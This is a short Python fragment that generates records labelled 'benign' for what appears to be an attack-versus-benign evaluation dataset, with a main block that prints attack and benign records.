def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, f"{NAME}-benign")
    for field, values in TYPED.items():
        for i, v in enumerate(values):
            for place, rec in _placed(field, i, v):
                n += 1
                yield {**rec, "id": f"{NAME}-benign-{field}-{n:04d}", "category": "benign", "placement": place}
    yield from SET.searches(SEARCHES, f"{NAME}-benign", n)


if __name__ == "__main__":
    print_records(attacks(), benign())
